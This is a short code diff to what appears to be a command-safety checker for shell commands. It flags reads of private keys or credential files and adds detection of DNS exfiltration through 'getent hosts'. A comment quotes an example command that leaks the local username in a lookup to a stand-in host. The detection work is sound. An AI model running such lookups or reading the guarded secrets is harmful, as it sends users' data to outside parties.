@@ -998,6 +998,11 @@ def _read_only(cmd: Cmd) -> None:
     elif n in ("tail", "head", "less") and any(is_secret(w.text) for w in cmd.operands()):
         cmd.add(M, "read-secret", "prints a private key or credentials file")
         cmd.info.reads_secret = True
+    elif n == "getent" and texts[:1] and texts[0] in ("hosts", "ahosts", "ahostsv4", "ahostsv6"):
+        # (n19u) `getent hosts $(id -un).x.example`: a name lookup through the resolver
+        from aintern_ls.safety.network import dns_exfiltration
+
+        dns_exfiltration(cmd)
     elif n in (
         "ping",
         "ping6",
